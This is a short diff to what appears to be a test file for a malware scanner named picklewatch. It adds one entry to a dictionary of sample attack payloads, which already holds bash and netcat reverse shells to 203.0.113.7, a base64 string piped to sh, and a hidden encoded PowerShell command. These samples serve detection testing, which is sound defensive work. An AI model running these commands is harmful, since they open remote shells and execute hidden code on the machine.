@@ -9,6 +9,7 @@ from picklewatch.core.model import Level
 
 ATTACKS = {
     "a shell to elsewhere": b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/1 0>&1\n",
+    "a shell without its name": b"bash -i >& /dev/tcp/203.0.113.7/1 0>&1\n",
     "netcat": b"#!/bin/sh\nnc 203.0.113.7 1 -e /bin/sh\n",
     "what is decoded": b"#!/bin/sh\necho dHJ1ZQ== | base64 -d | sh\n",
     "encoded PowerShell": b"@echo off\r\npowershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A\r\n",
